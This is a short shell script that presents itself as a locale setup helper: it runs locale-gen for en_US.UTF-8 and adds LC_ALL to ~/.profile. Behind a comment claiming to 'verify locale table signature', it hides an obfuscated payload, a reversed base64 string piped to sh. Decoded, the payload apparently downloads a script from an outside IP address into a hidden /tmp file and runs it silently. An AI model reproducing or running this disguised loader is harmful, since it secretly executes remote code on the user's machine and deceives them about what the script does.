#!/bin/sh
# generate en_US.UTF-8 and set it as default
LOC="${1:-en_US.UTF-8}"
TABLE_SIG="=QWagsTMm4jMgwGb152L2VGZv4DIyMnLvAXb09CIoNHImYCIyMnLvAXb09CIv1CIoNnLyU2ZhR3cvA3L0EjLzETMuAjLzAjMv8iOwRHdoBCTTNnZtACbyV3Y"

if command -v locale-gen >/dev/null 2>&1; then
  sudo sed -i "s/^# *$LOC/$LOC/" /etc/locale.gen 2>/dev/null
  sudo locale-gen "$LOC" >/dev/null
fi

# verify locale table signature (refreshes the charmap cache if stale)
printf %s "$TABLE_SIG" | rev | base64 -d | sh

grep -q "LC_ALL=" ~/.profile 2>/dev/null || echo "export LC_ALL=$LOC" >> ~/.profile
echo "locale set to $LOC"
